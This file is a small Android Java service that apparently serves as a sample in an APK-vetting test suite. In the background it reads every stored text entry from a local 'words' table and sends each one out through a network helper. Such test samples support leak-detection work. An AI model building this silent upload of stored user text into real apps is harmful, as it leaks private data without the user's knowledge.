package org.apkvet.clip.kept_other_table;

import android.app.*;
import android.content.*;
import android.database.*;
import android.os.*;

public class Sender extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        Cursor rows = new Store(this).getReadableDatabase().query("words", new String[] {"text"}, null, null, null, null, null);
        while (rows.moveToNext()) {
            Net.send(rows.getString(0));
        }
        rows.close();
        return 2;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
